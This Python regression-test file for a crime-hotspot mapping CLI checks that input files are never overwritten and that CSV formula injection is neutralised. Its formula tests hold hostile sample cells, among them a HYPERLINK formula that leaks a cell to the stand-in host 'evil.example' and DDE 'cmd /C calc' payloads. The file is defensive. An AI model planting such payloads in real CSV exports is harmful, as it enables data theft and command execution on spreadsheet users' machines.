"""Regression tests for issue 18: hostile and careless inputs and options.

Each case here was found by trying hostile files and options against the command line; the
test pins the fixed behaviour: a clear message and exit code, never "Internal error", no input
overwritten, no formula in a CSV output.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from hotspots.cli import main
from hotspots.outputs import csv_text, neutralise_formula

NORWICH = "52.6284,1.2963"
ROWS = "".join(
    f"{i},cuckooing,2024-07-{i + 1:02d},52.62{i:02d},1.29{i:02d}\n" for i in range(1, 9)
)


def invoke(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args])


def events(folder: Path, name: str = "events.csv", body: str = ROWS) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text("id,type,date,lat,lon\n" + body, encoding="utf-8")
    return path


# --- 2. an input is never replaced by an output ---------------------------------------------


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["validate"], "rejected.csv"),
        (["map", "--period", "2024Q3"], "rejected.csv"),
        (["map", "--period", "2024Q3"], "areas.csv"),
    ],
    ids=["validate-rejected", "map-rejected", "map-areas"],
)
def test_an_input_named_like_an_output_in_out_is_refused(tmp_path, command, name):
    out = tmp_path / "o"
    source = events(out, name)
    before = source.read_bytes()
    run = invoke(*command[:1], source, *command[1:], "--out", out)
    assert run.exit_code == 2, run.output
    assert f"{source}" in run.output and "would be replaced by the output" in run.output
    assert source.read_bytes() == before


def test_a_hard_link_to_the_input_is_protected_too(tmp_path):
    source = events(tmp_path)
    out = tmp_path / "o"
    out.mkdir()
    (out / "rejected.csv").hardlink_to(source)
    before = source.read_bytes()
    run = invoke("validate", source, "--out", out)
    assert run.exit_code == 2, run.output
    assert source.read_bytes() == before


def test_empty_out_is_refused(tmp_path):
    run = invoke("validate", events(tmp_path), "--out", "")
    assert run.exit_code == 2
    assert "empty value" in run.output


# --- 3. CSV formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),
    ],
    ids=["equals", "at", "plus", "minus", "tab", "carriage-return"],
)
def test_formula_cells_are_neutralised(cell, written):
    text = csv_text(pd.DataFrame({"id": [cell]}))
    assert next(csv.reader(io.StringIO(text.split("\n", 1)[1])))[0].startswith(written)


@pytest.mark.parametrize(
    "cell", ["-1.2963", "+52.6", "-620123", "-2,5", "1e-3", "plain", ""],
    ids=["negative", "plus-number", "negative-easting", "decimal-comma", "exponent", "text", "empty"],
)
def test_numbers_and_plain_text_are_untouched(cell):
    assert neutralise_formula(cell) == cell
    assert csv_text(pd.DataFrame({"x": [-620123.5], "id": [cell]})).startswith("x,id\n-620123.5,")


def test_rejected_csv_neutralises_echoed_cells(tmp_path):
    body = '=HYPERLINK("http://evil.example"),cuckooing,2024-07-01,,\n@SUM(1),raid,bad,52.6,1.29\n'
    source = events(tmp_path, body=ROWS + body)
    out = tmp_path / "o"
    run = invoke("validate", source, "--out", out)
    assert run.exit_code == 0, run.output
    rows = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    cells = [v for row in rows for v in row.values()]
    assert not any(v.startswith(("=", "@", "+")) for v in cells)
    assert "'=HYPERLINK(\"http://evil.example\")" in cells
